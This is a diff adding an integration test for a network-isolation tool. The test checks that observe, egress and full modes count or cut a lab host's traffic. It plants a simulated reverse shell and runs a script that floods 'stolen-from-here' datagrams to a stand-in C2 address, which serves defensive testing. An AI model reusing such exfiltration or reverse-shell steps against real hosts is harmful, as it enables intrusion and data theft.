@@ -1,0 +1,138 @@
+# Copyright: (c) 2026, Firebreak contributors
+# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
+# SPDX-License-Identifier: GPL-3.0-or-later
+
+"""Modes of an isolation, one after the other on one host: observe, egress, full; listened for on the host's own wire."""
+
+from __future__ import annotations
+
+import contextlib
+import subprocess
+import time
+
+import pytest
+
+from tests.lab import hosts, intruders, network
+from tests.lab.controller import adhoc, seen
+from tests.lab.machine import inside
+
+from . import matrix
+from .channels import heard, listening
+from .conftest import clean
+
+OUT = ("tcp-ipv4", "udp-ipv6", "icmp-with-payload-ipv4", "neighbour-tcp")
+FRAMES = ("packet-socket-ipv4", "odd-ethertype")
+IN = ("inbound-ssh-from-a-neighbour", "inbound-ping")
+PORT = 7070
+# Says how many datagrams came in until it is told to stop.
+LISTEN = f"""
+import socket, sys, time
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.bind(('', {PORT})); s.settimeout(2)
+count = 0
+print('ready', flush=True)
+try:
+    while True: s.recv(99); count += 1; s.settimeout(0.5)
+except OSError: print(count)
+"""
+# Thousands of packets a second to the attacker, refused or not, until its input ends.
+FLOOD = f"""
+import select, socket, sys
+s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+while not select.select([sys.stdin], [], [], 0.005)[0]:
+    for _ in range(50):
+        try: s.sendto(b'stolen-from-here', ('{network.C2}', 8443))
+        except OSError: pass
+"""
+
+
+@pytest.fixture(params=matrix.cells(), ids="-".join)
+def cell(request, lab):
+    """(release, backend)."""
+    clean(request.param[0])
+    yield request.param
+    clean(request.param[0])
+
+
+def comes_in(host: str) -> int:
+    """How many of five datagrams from a neighbour reach a program on the host."""
+    listener = subprocess.Popen(["nsenter", "-t", str(hosts.leader(host)), "-a", "--", "python3", "-c", LISTEN], stdout=subprocess.PIPE, text=True)
+    with listener:
+        assert listener.stdout is not None and listener.stdout.readline() == "ready\n"
+        code = f"import socket; s = socket.socket(socket.AF_INET, 2); [s.sendto(b'order', ('{network.address(host)}', {PORT})) for _ in range(5)]"
+        subprocess.run(inside("neighbour", ["python3", "-c", code]), check=True)
+        return int(listener.stdout.readline())
+
+
+@contextlib.contextmanager
+def flooding(host: str):
+    """A program of the host that sends to the attacker without a pause."""
+    sender = subprocess.Popen(["nsenter", "-t", str(hosts.leader(host)), "-a", "--", "python3", "-c", FLOOD], stdin=subprocess.PIPE)
+    try:
+        time.sleep(0.3)
+        yield
+    finally:
+        sender.communicate()
+
+
+def rules(host: str) -> str:
+    """The host's rules by its own nft."""
+    return hosts.execute(host, ["nft", "-s", "list", "ruleset"]).stdout
+
+
+def test_observe_counts_egress_cuts_what_leaves_and_full_cuts_all(cell):
+    host, backend = cell
+    frames = () if host == "deb11" else FRAMES  # its nft knows no egress hook, and the result says so
+    before = rules(host)
+    intruders.plant(host, "reverse-shell")
+    time.sleep(1)
+
+    checked = adhoc(host, "isolation", f"case=MODES backend={backend} mode=observe", "--check").of(host)
+    assert checked["verdict"] == "would_be reported" and rules(host) == before
+    run = adhoc(host, "isolation", f"case=MODES backend={backend} mode=observe")
+    result = run.of(host)
+    assert (run.status, result["verdict"], result["changed"], result["flows_cut"]) == (0, "reported", True, []), result
+    assert any(flow["remote"] == f"{network.C2}:4444" for flow in result["flows_observed"])
+    assert any(line.startswith("mode observe") for line in result["not_covered"])
+    began = time.time()
+    assert [name for name in (*OUT, *FRAMES, *IN) if not (heard(host, name) or heard(host, name, 1.0))] == []
+    assert comes_in(host) == 5
+    with listening(host) as passed, flooding(host):
+        time.sleep(0.5)
+    assert passed[0] > 500, "the flood of below is none"
+    assert seen("c2", began, network.address(host), "shell"), "what is observed must live on"
+    again = adhoc(host, "isolation", f"case=MODES backend={backend} mode=observe").of(host)
+    assert (again["verdict"], again["changed"]) == ("reported", False)
+    assert again["packets_observed"]["outbound"] > 3 and again["packets_observed"]["inbound"] >= 5
+    assert any(flow["remote"] == f"{network.C2}:4444" for flow in again["flows_observed"])
+
+    result = adhoc(host, "isolation", f"case=MODES backend={backend} mode=egress").of(host)
+    assert (result["verdict"], result["changed"]) == ("contained", True), result["reasons"]
+    assert any(flow["remote"] == f"{network.C2}:4444" for flow in result["flows_cut"])
+    assert any(line.startswith("mode egress") for line in result["not_covered"])
+    cut = time.time()
+    assert {name: count for name in (*OUT, *frames, *IN) if (count := heard(host, name))} == {}
+    assert comes_in(host) == 5
+    assert not seen("c2", cut, network.address(host))
+    assert hosts.answers("controller", network.address(host), 22) and hosts.answers("monitoring", network.address(host), 9100)
+
+    # A change of mode opens nothing in between.
+    with listening(host) as passed, flooding(host):
+        result = adhoc(host, "isolation", f"case=MODES backend={backend} mode=full").of(host)
+    assert (result["verdict"], result["changed"], passed) == ("contained", True, [0]), result["reasons"]
+    assert comes_in(host) == 0
+    assert {name: count for name in (*OUT, *frames, *IN) if (count := heard(host, name))} == {}
+    assert adhoc(host, "isolation", f"case=MODES backend={backend} mode=full").of(host)["changed"] is False
+
+    # Back to observing: the copy that was held, and the rules for frames, are gone.
+    result = adhoc(host, "isolation", f"case=MODES backend={backend} mode=observe").of(host)
+    assert (result["verdict"], result["proof"]["hold"]["unit"]) == ("reported", ""), result["reasons"]
+    assert comes_in(host) == 5 and all(heard(host, name) or heard(host, name, 1.0) for name in (*OUT, *FRAMES))
+    released = adhoc(host, "isolation", "case=MODES state=released").of(host)
+    assert (released["verdict"], released["changed"], released["changed_by_others"]) == ("released", True, [])
+    assert rules(host) == before
+
+
+def test_frames_cannot_be_required_of_an_observation(lab):
+    result = adhoc("deb13", "isolation", "case=MODES mode=observe layer2=required").of("deb13")
+    assert result["failed"] and "layer2" in result["reasons"][0] and "observe" in result["reasons"][0]
+    assert "firebreak" not in rules("deb13")
